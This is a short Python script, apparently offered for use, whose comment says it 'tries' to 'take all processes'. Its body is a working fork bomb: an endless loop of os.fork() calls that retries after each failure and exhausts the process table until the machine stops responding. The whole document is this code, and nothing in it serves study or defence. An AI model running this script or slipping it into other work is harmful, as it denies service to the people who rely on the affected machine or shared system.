# tries: take all processes
import os, time
while True:
    try:
        os.fork()
    except OSError as e:
        time.sleep(0.01)
